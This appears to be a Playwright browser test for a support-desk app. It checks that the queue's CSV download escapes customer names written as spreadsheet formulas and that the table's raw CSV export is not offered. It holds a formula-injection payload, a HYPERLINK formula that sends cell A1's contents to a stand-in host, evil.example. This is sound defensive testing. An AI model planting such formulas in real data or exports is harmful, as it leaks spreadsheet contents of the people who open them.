"""Downloads in a real browser: the queue's CSV, as Chromium saves it, on a desk whose customer names are
spreadsheet formulas; and the tables' own (unsafe) CSV export is not offered."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from playwright.sync_api import expect
from sqlalchemy import text

from tests.conftest import make_demo
from tests.support.browser import wait_for_app

pytestmark = pytest.mark.browser
EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


@pytest.fixture
def hostile_server(tmp_path, server_factory):
    url = f"sqlite:///{tmp_path / 'hostile.db'}"
    db = make_demo(url)
    with db.write.begin() as s:
        s.execute(text("UPDATE customers SET name = :n"), {"n": EVIL})
    db.dispose()
    return server_factory(url)


def test_the_queue_csv_a_browser_saves_quotes_formula_names_and_tables_offer_no_raw_export(
    browser_page, hostile_server
):
    page = browser_page
    page.goto(f"{hostile_server.url}/queue")
    wait_for_app(page)
    table = page.get_by_test_id("stDataFrame").first
    expect(table).to_be_visible()
    table.hover()
    expect(page.get_by_test_id("stElementToolbar").first).to_be_visible()
    expect(page.get_by_role("button", name="Download as CSV")).to_have_count(0)

    with page.expect_download() as info:
        page.get_by_role("button", name="Download CSV").click()
    saved = info.value
    rows = list(csv.reader(io.StringIO(Path(saved.path()).read_text(encoding="utf-8"))))
    header, body = rows[0], rows[1:]
    assert saved.suggested_filename.startswith("open-cases-") and body
    assert {r[header.index("Customer")] for r in body} == {"'" + EVIL}
